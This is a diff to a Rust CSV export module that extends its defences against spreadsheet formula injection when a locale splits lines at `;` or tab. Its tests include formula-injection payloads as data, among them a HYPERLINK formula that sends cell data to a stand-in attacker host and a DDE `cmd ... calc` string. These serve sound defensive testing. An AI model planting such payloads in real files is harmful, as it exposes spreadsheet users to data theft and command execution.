@@ -5,6 +5,12 @@
 //! `+`, `-`, `@`, tab or carriage return) get a leading `'`, as OWASP's
 //! "CSV Injection" page recommends; amounts and dates are written as plain
 //! numbers and ISO dates, never altered (`-12.50` stays `-12.50`).
+//!
+//! A spreadsheet whose list separator is `;` (or tab) splits a line at it,
+//! and the piece after `x;=HYPERLINK(...)` would start a live formula: so
+//! a piece after a separator that starts like a formula gets the `'` too,
+//! and every cell that is not a number is quoted (keeps the cell whole for
+//! readers that honour quotes under any separator).
 
 use std::borrow::Cow;
 
@@ -25,13 +31,35 @@ pub const BOM: &[u8] = b"\xEF\xBB\xBF";
 /// (OWASP, "CSV Injection").
 const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
 
-/// A text cell as written: prefixed with `'` when it starts like a formula.
+/// Characters a spreadsheet may split a line at (its list separator).
+const SEPARATORS: [char; 3] = [',', ';', '\t'];
+
+/// A text cell as written: prefixed with `'` when it starts like a
+/// formula, and so is every piece after a separator that would start like
+/// one (`x;=HYPERLINK(...)` becomes `x;'=HYPERLINK(...)`). Quoting alone
+/// does not keep such a cell whole: a reader splitting at `;` leaves the
+/// quoted state at the first quoted cell of the line followed by a `,`,
+/// so the pieces of later cells stand alone.
 pub fn neutralise(text: &str) -> Cow<'_, str> {
-    if text.starts_with(FORMULA_TRIGGERS) {
-        Cow::Owned(format!("'{text}"))
-    } else {
-        Cow::Borrowed(text)
+    let starts = text.starts_with(FORMULA_TRIGGERS);
+    let hides = text.char_indices().any(|(i, c)| {
+        SEPARATORS.contains(&c) && text[i + c.len_utf8()..].starts_with(FORMULA_TRIGGERS)
+    });
+    if !starts && !hides {
+        return Cow::Borrowed(text);
     }
+    let mut out = String::with_capacity(text.len() + 4);
+    if starts {
+        out.push('\'');
+    }
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        out.push(c);
+        if SEPARATORS.contains(&c) && chars.peek().is_some_and(|n| FORMULA_TRIGGERS.contains(n)) {
+            out.push('\'');
+        }
+    }
+    Cow::Owned(out)
 }
 
 /// A cell as written: text neutralised, money and dates as they display.
@@ -43,7 +71,10 @@ fn csv_cell(cell: &Cell) -> String {
 }
 
 fn writer(buffer: Vec<u8>) -> csv::Writer<Vec<u8>> {
-    csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(buffer)
+    csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .quote_style(csv::QuoteStyle::NonNumeric)
+        .from_writer(buffer)
 }
 
 impl CsvFile {
@@ -101,7 +132,7 @@ mod tests {
         let bytes = file.finish().unwrap();
         assert!(bytes.starts_with(BOM));
         let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
-        assert_eq!(text, "Name,Total\r\n\"Café \"\"Zürich\"\", AG\",1234.50\r\n");
+        assert_eq!(text, "\"Name\",\"Total\"\r\n\"Café \"\"Zürich\"\", AG\",1234.50\r\n");
     }
 
     /// The data rows of a file, parsed back.
@@ -173,12 +204,88 @@ mod tests {
         let text = String::from_utf8(bytes[BOM.len()..].to_vec()).unwrap();
         assert!(
             text.contains(
-                "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",2025-12-01,-12.50\r\n"
+                "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",\"2025-12-01\",-12.50\r\n"
             ),
             "{text}"
         );
-        assert!(text.contains("\r\n'+SUM(1+1),2025-12-01,-12.50\r\n"), "{text}");
-        assert!(text.contains("\r\n\"'\rx\",2025-12-01,-12.50\r\n"), "{text}");
+        assert!(text.contains("\r\n\"'+SUM(1+1)\",\"2025-12-01\",-12.50\r\n"), "{text}");
+        assert!(text.contains("\r\n\"'\rx\",\"2025-12-01\",-12.50\r\n"), "{text}");
+    }
+
+    /// Every cell of `bytes` read with `separator`, as a spreadsheet of a
+    /// locale whose list separator it is would split them.
+    fn cells_read_with(bytes: &[u8], separator: u8) -> Vec<String> {
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(separator)
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(&bytes[BOM.len()..]);
+        reader
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect()
+    }
+
+    /// A company name that hides a formula behind `;` (or a tab) stays one
+    /// quoted cell: read with `,`, `;` or tab as the separator, no cell
+    /// starts a formula.
+    #[test]
+    fn no_cell_starts_a_formula_under_any_separator() {
+        // The name is not the first cell: a reader splitting at `;` leaves
+        // the quoted state after the first cell (`"O-1",`), so quotes alone
+        // would not keep the name whole.
+        let columns = [
+            Column { header: "Order", kind: Kind::Text, width: 10.0 },
+            Column { header: "Customer", kind: Kind::Text, width: 10.0 },
+            Column { header: "Date", kind: Kind::Date, width: 10.0 },
+            Column { header: "Total", kind: Kind::Money, width: 10.0 },
+        ];
+        let day = chrono::NaiveDate::from_ymd_opt(2025, 12, 1).unwrap();
+        let names = [
+            "x;=HYPERLINK(\"https://evil.example/?\"&A1;\"y\")",
+            "x\t=HYPERLINK(\"https://evil.example/\")",
+            "x,=1+1",
+            "a;b;@SUM(1;1)",
+            "=1;=2",
+            "Acme;Holdings",
+        ];
+        let mut file = CsvFile::new(&columns).unwrap();
+        for name in names {
+            let row = [Cell::Text("O-1".into()), Cell::Text(name.into()), Cell::Date(day)];
+            file.write_row(&vec![
+                row[0].clone(),
+                row[1].clone(),
+                row[2].clone(),
+                Cell::Money(dec!(5)),
+            ])
+            .unwrap();
+        }
+        let bytes = file.finish().unwrap();
+        for separator in [b',', b';', b'\t'] {
+            let cells = cells_read_with(&bytes, separator);
+            assert!(!cells.is_empty());
+            for cell in &cells {
+                assert!(
+                    !cell.starts_with(FORMULA_TRIGGERS),
+                    "read with {:?}, a cell starts a formula: {cell:?}",
+                    separator as char
+                );
+            }
+        }
+        // Read with the separator it was written with, every name is one
+        // cell: itself, with a `'` before each piece that starts a formula.
+        let rows = rows(&bytes);
+        for (row, name) in rows.iter().zip(names) {
+            assert_eq!(row[1], neutralise(name));
+            assert_eq!(
+                row[1]
+                    .replace(";'", ";")
+                    .replace(",'", ",")
+                    .replace("\t'", "\t")
+                    .trim_start_matches('\''),
+                name
+            );
+        }
     }
 
     #[test]
@@ -187,7 +294,9 @@ mod tests {
             let text = format!("{trigger}cmd|' /C calc'!A0");
             assert_eq!(neutralise(&text), format!("'{text}"));
         }
-        for text in ["", "x=1", "12", "ORD-1", "\nline", " -1"] {
+        assert_eq!(neutralise("x;=A1;b,+1\t@2"), "x;'=A1;b,'+1\t'@2");
+        assert_eq!(neutralise("=1;=2"), "'=1;'=2");
+        for text in ["", "x=1", "12", "ORD-1", "\nline", " -1", "Acme; Holdings", "a,b", "x; =1"] {
             assert!(matches!(neutralise(text), Cow::Borrowed(t) if t == text), "{text:?}");
         }
     }
